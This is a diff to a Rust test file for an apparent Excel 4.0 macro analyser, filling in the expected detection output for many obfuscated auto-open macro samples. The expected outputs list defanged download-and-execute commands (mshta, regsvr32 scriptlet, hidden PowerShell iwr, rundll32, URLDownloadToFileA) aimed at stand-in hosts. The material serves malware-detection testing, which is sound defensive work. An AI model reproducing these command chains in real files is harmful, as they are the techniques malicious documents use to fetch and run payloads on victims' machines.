@@ -13,7 +13,13 @@ fn plain_download_and_start() {
         A3: =RETURN()
         name Auto_Open =Macro1!$A$1
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.Auto_Open:1
+            Network Macro1:1 URLDownloadToFileA(0 hxxp://files[.]example/a.ocx ..\a.ocx 0 0) [Auto_Open]
+            Process Macro1:2 EXEC(C:\Windows\SysWow64\regsvr32.exe -s ..\a.ocx) [Auto_Open]
+            command Macro1!R2C1 SystemBinary C:\Windows\SysWow64\regsvr32.exe -s ..\a.ocx
+            url hxxp://files[.]example/a.ocx at files[.]example
+        "#]],
     );
 }
 
@@ -30,7 +36,12 @@ fn characters_put_together_from_another_sheet() {
         B1: http:
         name auto_open =Macro1!$A$1
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.auto_open:1
+            Process Macro1:1 EXEC(mshta hxxp://0xC0000207/x.html) [auto_open]
+            command Macro1!R1C1 SystemBinary mshta hxxp://0xC0000207/x.html
+              hxxp://0xC0000207/x.html
+        "#]],
     );
 }
 
@@ -43,7 +54,12 @@ fn formulas_written_by_formulas() {
         A2: =FORMULA.FILL("=HALT()",A4:A5)
         name Auto_Open =Macro1!$A$1
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.Auto_Open:1
+            Process Macro1:3 EXEC(cmd /c start hxxps://one[.]example/x) [Auto_Open]
+            command Macro1!R3C1 Cmd cmd /c start hxxps://one[.]example/x
+              hxxps://one[.]example/x
+        "#]],
     );
 }
 
@@ -62,7 +78,12 @@ fn jumps_from_cell_to_cell() {
         B3: =GOTO(Macro1!D1)
         name Auto_Open =Macro1!$A$1
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.Auto_Open:1
+            Process Macro1:1 EXEC(powershell -w hidden -c iwr hxxp://two[.]example/p.exe -OutFile p.exe) [Auto_Open]
+            command Macro1!R1C4 PowerShell powershell -w hidden -c iwr hxxp://two[.]example/p.exe -OutFile p.exe
+              hxxp://two[.]example/p.exe
+        "#]],
     );
 }
 
@@ -78,7 +99,11 @@ fn a_command_built_cell_by_cell() {
         A5: =RETURN()
         name Auto_Open =Macro1!$A$1
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.Auto_Open:1
+            Process Macro1:4 EXEC(rundll32 ..\x.dll,DllRegisterServer) [Auto_Open]
+            command Macro1!R4C1 SystemBinary rundll32 ..\x.dll,DllRegisterServer
+        "#]],
     );
 }
 
@@ -109,7 +134,11 @@ fn a_loop_that_decodes_numbers() {
         C12: 111
         name Auto_Open =Macro1!$A$1
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.Auto_Open:1
+            Process Macro1:7 EXEC(mshta x.html) [Auto_Open]
+            command Macro1!R7C1 SystemBinary mshta x.html
+        "#]],
     );
 }
 
@@ -134,7 +163,11 @@ fn counted_loops_and_loops_over_cells() {
         D3: ' list
         name Auto_Open =Macro1!$A$1
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.Auto_Open:1
+            Process Macro1:8 EXEC(cmd /cwmic process list) [Auto_Open]
+            command Macro1!R8C1 Cmd cmd /cwmic process list
+        "#]],
     );
 }
 
@@ -152,7 +185,12 @@ fn gates_that_look_for_a_sandbox() {
         A7: =HALT()
         name Auto_Open =Macro1!$A$1
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.Auto_Open:1
+            Process Macro1:6 EXEC(mshta hxxp://three[.]example/a) [Auto_Open]
+            command Macro1!R6C1 SystemBinary mshta hxxp://three[.]example/a
+              hxxp://three[.]example/a
+        "#]],
     );
 }
 
@@ -173,7 +211,19 @@ fn both_ways_where_only_the_machine_knows() {
         C2: =HALT()
         name Auto_Open =Macro1!$A$1
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.Auto_Open:1
+            Process Macro1:2 EXEC(mshta hxxp://seven[.]example/a) [Auto_Open]
+            Process Macro1:4 EXEC(mshta hxxp://other[.]example/a) [Auto_Open]
+            Process Macro1:1 EXEC(wscript one.vbs) [Auto_Open]
+            Process Macro1:1 EXEC(wscript two.vbs) [Auto_Open]
+            command Macro1!R2C1 SystemBinary mshta hxxp://seven[.]example/a
+              hxxp://seven[.]example/a
+            command Macro1!R4C1 SystemBinary mshta hxxp://other[.]example/a
+              hxxp://other[.]example/a
+            command Macro1!R1C2 ScriptHost wscript one.vbs
+            command Macro1!R1C3 ScriptHost wscript two.vbs
+        "#]],
     );
 }
 
@@ -192,7 +242,18 @@ fn next_address_when_the_first_failed() {
         B1: C:\Users\Public\x.dat
         name Auto_Open =Macro1!$A$1
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.Auto_Open:1
+            Library Macro1:1 REGISTER(urlmon URLDownloadToFileA JJCCJJ fetch 1 9) [Auto_Open]
+            Network Macro1:2 URLDownloadToFileA(0 hxxps://one[.]example/1 C:\Users\Public\x.dat 0 0) [Auto_Open]
+            Network Macro1:3 URLDownloadToFileA(0 hxxps://two[.]example/2 C:\Users\Public\x.dat 0 0) [Auto_Open]
+            Network Macro1:4 URLDownloadToFileA(0 hxxps://three[.]example/3 C:\Users\Public\x.dat 0 0) [Auto_Open]
+            Process Macro1:6 ShellExecuteA(0 open rundll32.exe C:\Users\Public\x.dat,Start 0 0) [Auto_Open]
+            command Macro1!R6C1 SystemBinary rundll32.exe C:\Users\Public\x.dat,Start
+            url hxxps://one[.]example/1 at one[.]example
+            url hxxps://two[.]example/2 at two[.]example
+            url hxxps://three[.]example/3 at three[.]example
+        "#]],
     );
 }
 
@@ -207,7 +268,13 @@ fn a_call_through_the_number_that_register_gives() {
         A4: =HALT()
         name Auto_Open =Macro1!$A$1
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.Auto_Open:1
+            Library Macro1:1 REGISTER(Kernel32 WinExec JCJ 1 0) [Auto_Open]
+            Process Macro1:2 WinExec(cmd /c echo hello 0) [Auto_Open]
+            Library Macro1:3 CreateDirectoryA(C:\demo 0) [Auto_Open]
+            command Macro1!R2C1 Cmd cmd /c echo hello
+        "#]],
     );
 }
 
@@ -224,7 +291,14 @@ fn a_script_written_line_by_line() {
         A6: =HALT()
         name Auto_Open =Macro1!$A$1
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.Auto_Open:1
+            Write Macro1:1 FOPEN(C:\ProgramData\a.vbs) [Auto_Open]
+            Process Macro1:5 EXEC(explorer.exe C:\ProgramData\a.vbs) [Auto_Open]
+            command Macro1!R5C1 Other explorer.exe C:\ProgramData\a.vbs
+            command Macro1!R1C1 PowerShell x.Run "powershell -c iwr hxxp://script[.]example/q", 0
+              hxxp://script[.]example/q
+        "#]],
     );
 }
 
@@ -250,7 +324,18 @@ fn macros_that_start_later_and_by_text() {
         name sub =Macro1!$E$1
         name Auto_Open =Macro1!$A$1
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.Auto_Open:1
+            Other Macro1:1 ON.TIME(later) [Auto_Open]
+            Process Macro1:1 EXEC(cscript later.vbs) [Auto_Open]
+            Process Macro1:1 EXEC(cscript text.vbs) [Auto_Open]
+            Process Macro1:1 EXEC(cscript name.vbs) [Auto_Open]
+            Process Macro1:1 EXEC(cscript place.vbs) [Auto_Open]
+            command Macro1!R1C2 ScriptHost cscript later.vbs
+            command Macro1!R1C4 ScriptHost cscript text.vbs
+            command Macro1!R1C5 ScriptHost cscript name.vbs
+            command Macro1!R1C6 ScriptHost cscript place.vbs
+        "#]],
     );
 }
 
@@ -266,7 +351,12 @@ fn r1c1_everywhere() {
         C2: http://four.example/s.sct scrobj.dll
         name Auto_Open =Macro1!R1C1
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.Auto_Open:1
+            Process Macro1:4 EXEC(regsvr32 /s /n /u /i:hxxp://four[.]example/s.sct scrobj.dll) [Auto_Open]
+            command Macro1!R4C1 SystemBinary regsvr32 /s /n /u /i:hxxp://four[.]example/s.sct scrobj.dll
+              hxxp://four[.]example/s.sct
+        "#]],
     );
 }
 
@@ -284,7 +374,15 @@ fn several_names_in_odd_spelling() {
         name Auto_Close =Macro1!$B$1
         name _xlnm.Auto_Open =Macro1!$A$2
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.AUTO_OPEN_x7:1
+            entry Open Macro1._xlnm.Auto_Open:2
+            entry Close Macro1.Auto_Close:1
+            Other Macro1:1 ALERT(Enable content) [AUTO_OPEN_x7]
+            Other Macro1:2 WORKBOOK.HIDE(Macro1 TRUE) [AUTO_OPEN_x7,_xlnm.Auto_Open]
+            Process Macro1:1 EXEC(cmd /c calc) [Auto_Close]
+            command Macro1!R1C2 Cmd cmd /c calc
+        "#]],
     );
 }
 
@@ -297,7 +395,12 @@ fn macros_nothing_starts() {
         A2: =RETURN()
         B1: powershell -c iwr http://constant.example/x
         "#,
-        expect![[""]],
+        expect![[r#"
+            Process Macro1:1 EXEC(cmd /c echo by hand) []
+            command Macro1!R1C1 Cmd cmd /c echo by hand
+            command Macro1!R1C2 PowerShell powershell -c iwr hxxp://constant[.]example/x
+              hxxp://constant[.]example/x
+        "#]],
     );
 }
 
@@ -315,7 +418,12 @@ fn values_stored_with_formulas_that_did_not_run() {
         A3: five.example
         name Auto_Open =Macro1!$A$1
         "#,
-        expect![[""]],
+        expect![[r#"
+            entry Open Macro1.Auto_Open:1
+            Process Macro1:1 EXEC(mshta hxxp://five[.]example/go) [Auto_Open]
+            command Macro1!R1C1 SystemBinary mshta hxxp://five[.]example/go
+              hxxp://five[.]example/go
+        "#]],
     );
 }
 
@@ -337,5 +445,5 @@ fn the_way_to_a_call() {
         .iter()
         .map(|step| format!("{}.{}:{}", step.module, step.procedure, step.line))
         .collect();
-    assert_eq!(path, ["Macro1.Auto_Open:1", "Macro1.B3:3", "Two.A1:1"]);
+    assert_eq!(path, ["Macro1.Auto_Open:1", "Macro1.Macro1!R3C2:3", "Two.Two!R1C1:1"]);
 }
